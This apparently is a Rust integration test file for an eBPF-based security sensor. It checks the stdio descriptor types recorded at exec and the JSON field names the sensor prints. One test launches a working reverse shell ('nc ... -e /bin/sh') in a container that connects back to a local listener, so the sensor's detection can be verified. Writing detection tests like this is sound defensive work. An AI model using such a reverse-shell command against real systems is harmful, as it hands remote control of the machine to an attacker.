//! What fd 0, 1 and 2 are after exec, on the real kernel: TCP (IPv4 and IPv6),
//! Unix sockets, pipes, eventfds and closed descriptors; a reverse shell in a
//! runc container (its stdin is a TCP socket); and the JSON `sensor trace`
//! prints for them, keyed by the catalogue.

use std::{
    io::{Read as _, Write as _},
    net::TcpListener,
    os::{fd::OwnedFd, unix::net::UnixStream},
    process::{Command, Stdio},
    time::Duration,
};

use sensor::event::FdType;
use sensor_tests::{
    argv, can_load_ebpf,
    container::Container,
    exec_of,
    facts::{Seen, config, enrich_until, enricher, exec_with, execs_with, stdio, tcp_pair},
    nonce, start_with,
    trace::Trace,
};

#[tokio::test]
async fn stdio_types_are_the_descriptors_after_exec() {
    if !can_load_ebpf("stdio_types") {
        return;
    }
    let (_sensor, mut reader) = start_with(&config());
    let mut table = enricher();
    let marker = nonce("stdio");

    // A shell whose stdin is a TCP socket, stdout a pipe and stderr /dev/null;
    // it runs `true` with its stdin closed.
    let (client, _server) = tcp_pair("127.0.0.1:0");
    let (mut pipe_r, pipe_w) = std::io::pipe().expect("a pipe");
    let mut first = Command::new("/bin/sh")
        .args(["-c", "exec /bin/true \"$0\" <&-", &marker])
        .stdin(Stdio::from(OwnedFd::from(client)))
        .stdout(Stdio::from(pipe_w))
        .stderr(Stdio::null())
        .spawn()
        .expect("sh");
    assert!(first.wait().expect("sh exits").success());
    let mut none = Vec::new();
    let _ = pipe_r.read_to_end(&mut none);

    // IPv6 in, a Unix socket out, an eventfd as stderr.
    let (client6, _server6) = tcp_pair("[::1]:0");
    let (unix, _peer) = UnixStream::pair().expect("a unix pair");
    // SAFETY: eventfd has no preconditions; the new descriptor is owned below.
    let efd = unsafe { libc::eventfd(0, libc::EFD_CLOEXEC) };
    assert!(efd >= 0, "eventfd: {}", std::io::Error::last_os_error());
    // SAFETY: a fresh descriptor that nothing else owns.
    let efd = unsafe { <OwnedFd as std::os::fd::FromRawFd>::from_raw_fd(efd) };
    let mut second = Command::new("/bin/true")
        .arg(format!("{marker}-v6"))
        .stdin(Stdio::from(OwnedFd::from(client6)))
        .stdout(Stdio::from(OwnedFd::from(unix)))
        .stderr(Stdio::from(efd))
        .spawn()
        .expect("true");
    assert!(second.wait().expect("true exits").success());

    let seen = enrich_until(&mut reader, &mut table, Duration::from_secs(10), |seen| {
        execs_with(seen, &marker).len() >= 2
            && !execs_with(seen, &format!("{marker}-v6")).is_empty()
    })
    .await;
    let sh = exec_with(&seen, &marker, "sh");
    assert_eq!(
        stdio(sh),
        [FdType::Ipv4, FdType::Pipe, FdType::Char],
        "{sh:?}"
    );
    let exec = exec_of(&sh.event).expect("an exec");
    assert_eq!(exec.facts.stdio, stdio(sh), "the table holds the exec's");
    let inner = execs_with(&seen, &marker)
        .into_iter()
        .find(|s| argv(&s.event) == ["/bin/true", marker.as_str()])
        .expect("the inner true");
    assert_eq!(stdio(inner), [FdType::NotOpen, FdType::Pipe, FdType::Char]);
    let v6 = exec_with(&seen, &format!("{marker}-v6"), "true");
    assert_eq!(
        stdio(v6),
        [FdType::Ipv6, FdType::Unix, FdType::Anon],
        "{v6:?}"
    );
    assert_eq!(FdType::Ipv4.name(), "ipv4");
}

#[tokio::test]
async fn a_reverse_shell_in_a_container_has_a_tcp_socket_for_stdin() {
    if !can_load_ebpf("reverse_shell") {
        return;
    }
    let (_sensor, mut reader) = start_with(&config());
    let mut table = enricher();
    let marker = nonce("revshell");
    let listener = TcpListener::bind("127.0.0.1:0").expect("listen");
    let port = listener.local_addr().expect("addr").port().to_string();
    // busybox nc -e: the shell's stdin and stdout are the connection.
    let container =
        Container::create_host_network(&marker, &["/bin/nc", "127.0.0.1", &port, "-e", "/bin/sh"]);
    container.start();
    let (mut conn, _) = listener.accept().expect("the shell connects");
    writeln!(conn, "/bin/echo {marker}; exit").expect("a command for the shell");
    let mut answer = String::new();
    conn.set_read_timeout(Some(Duration::from_secs(10)))
        .expect("a timeout");
    let _ = conn.read_to_string(&mut answer);
    assert!(answer.contains(&marker), "the shell ran: {answer:?}");

    let seen = enrich_until(&mut reader, &mut table, Duration::from_secs(10), |seen| {
        !execs_with(seen, &marker).is_empty()
    })
    .await;
    let ours = |s: &&Seen| s.container.as_deref() == Some(container.id.as_str());
    let shell = seen
        .iter()
        .filter(ours)
        .find(|s| argv(&s.event).first().is_some_and(|a| a == "/bin/sh"))
        .expect("the shell's exec");
    assert_eq!(stdio(shell)[..2], [FdType::Ipv4, FdType::Ipv4], "{shell:?}");
    let echo = exec_with(&seen, &marker, "echo");
    assert_eq!(echo.container.as_deref(), Some(container.id.as_str()));
    assert_eq!(stdio(echo)[0], FdType::Ipv4);
    container.wait(Duration::from_secs(10));
}

#[tokio::test]
async fn sensor_trace_prints_the_facts_with_catalogue_names() {
    if !can_load_ebpf("facts_json") {
        return;
    }
    let trace = Trace::start(&["--events", "exec", "--poll-ms", "20"]);
    let marker = nonce("factsjson");
    let (client, _server) = tcp_pair("127.0.0.1:0");
    let mut shell = Command::new("/bin/sh")
        .args(["-c", "exec /bin/true \"$0\"", &marker])
        .stdin(Stdio::from(OwnedFd::from(client)))
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn()
        .expect("sh");
    assert!(shell.wait().expect("sh exits").success());
    let deadline = std::time::Instant::now() + Duration::from_secs(10);
    let event = loop {
        let line = trace
            .lines
            .recv_timeout(deadline.saturating_duration_since(std::time::Instant::now()))
            .expect("an event line for our true");
        let value: serde_json::Value =
            serde_json::from_str(&line).unwrap_or_else(|e| panic!("not JSON ({e}): {line}"));
        if value["proc.argv"] == serde_json::json!(["/bin/true", marker]) {
            break value;
        }
    };
    for key in event.as_object().expect("an object").keys() {
        assert!(
            sensor::fields::find(key).is_some(),
            "{key} is not in the catalogue"
        );
    }
    assert_eq!(event["proc.stdin.type"], "ipv4", "{event}");
    assert!(
        event.get("evt.unreadable").is_none(),
        "every fact was read: {event}"
    );
    assert_eq!(event["proc.stdout.type"], "char");
    let effective = event["thread.cap_effective"].as_str().expect("a string");
    assert!(
        effective.split(' ').any(|c| c == "CAP_SYS_ADMIN"),
        "{effective}"
    );
    assert!(
        event["thread.cap_permitted"].is_string() && event["thread.cap_inheritable"].is_string()
    );
    assert!(event["proc.sid"].is_u64(), "{event}");
    assert_eq!(event["proc.is_exe_changed"], false, "on the host");
    assert!(event.get("container.start_ts").is_none());
    // The shell exec'd true: same process, so its parent is the test's.
    assert_eq!(event["proc.aexe"][0], "/bin/true");
    assert_eq!(event["proc.pexe"], event["proc.aexe"][1]);
}
